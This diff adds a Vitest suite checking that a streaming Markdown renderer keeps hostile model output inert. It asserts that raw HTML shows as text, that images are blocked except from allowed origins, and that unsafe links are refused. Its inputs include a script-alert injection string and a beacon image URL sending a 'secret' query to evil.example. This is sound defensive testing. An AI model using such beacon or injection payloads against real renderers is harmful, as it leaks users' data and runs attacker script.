@@ -1,0 +1,82 @@
+import { describe, expect, it } from 'vitest';
+import { hostileInputs } from '../test/hostile.js';
+import { createStreamingMarkdown, parseMarkdown } from './streaming-markdown.js';
+import type { MarkdownNode } from './tree.js';
+
+function* walk(nodes: readonly MarkdownNode[]): Generator<MarkdownNode> {
+  for (const node of nodes) {
+    yield node;
+    if (node.type === 'element') yield* walk(node.children);
+  }
+}
+
+function assertSafe(nodes: readonly MarkdownNode[]): void {
+  for (const node of walk(nodes)) {
+    if (node.type !== 'element') continue;
+    // With the default policy no image element exists at all: blocked images are placeholders.
+    expect(node.tagName).not.toBe('img');
+    expect(node.properties).not.toHaveProperty('src');
+    if (node.tagName === 'a') {
+      expect(node.properties.href).toMatch(/^(https?:\/\/[^/\\]|mailto:)/);
+      expect(node.properties.rel).toBe('noopener noreferrer nofollow');
+    }
+  }
+}
+
+describe('hostile model output', () => {
+  it.each(hostileInputs)('is inert: %s', (input) => {
+    const nodes = parseMarkdown(input);
+    assertSafe(nodes);
+    // Every prefix, as it streams, is inert too.
+    const doc = createStreamingMarkdown();
+    for (let end = 1; end <= input.length; end++)
+      assertSafe(doc.update(input.slice(0, end)).blocks.flatMap((b) => b.nodes));
+  });
+
+  it('shows raw HTML as text', () => {
+    expect(parseMarkdown('<script>alert(1)</script>')).toEqual([
+      {
+        type: 'element',
+        tagName: 'p',
+        properties: {},
+        children: [{ type: 'text', value: '<script>alert(1)</script>' }],
+      },
+    ]);
+  });
+
+  it('replaces a beacon image with a placeholder that names the refused origin', () => {
+    const [paragraph] = parseMarkdown('![](https://evil.example/?q=secret)');
+    expect(paragraph).toEqual({
+      type: 'element',
+      tagName: 'p',
+      properties: {},
+      children: [
+        {
+          type: 'element',
+          tagName: 'blocked-image',
+          properties: { alt: '', blockedOrigin: 'https://evil.example' },
+          children: [],
+        },
+      ],
+    });
+  });
+
+  it('loads images only from configured origins', () => {
+    const urlPolicy = { imageOrigins: ['https://images.example'] };
+    const [allowed] = parseMarkdown('![chart](https://images.example/c.png)', { urlPolicy });
+    expect(allowed).toMatchObject({
+      children: [{ tagName: 'img', properties: { src: 'https://images.example/c.png' } }],
+    });
+    const [refused] = parseMarkdown('![chart](https://evil.example/c.png)', { urlPolicy });
+    expect(refused).toMatchObject({ children: [{ tagName: 'blocked-image' }] });
+  });
+
+  it('renders a refused link as its text', () => {
+    expect(parseMarkdown('[docs](//evil.example)')).toEqual([
+      { type: 'element', tagName: 'p', properties: {}, children: [{ type: 'text', value: 'docs' }] },
+    ]);
+    expect(parseMarkdown('[docs](ftp://files.example)', { urlPolicy: { linkProtocols: ['ftp:'] } })).toMatchObject([
+      { children: [{ tagName: 'a', properties: { href: 'ftp://files.example' } }] },
+    ]);
+  });
+});
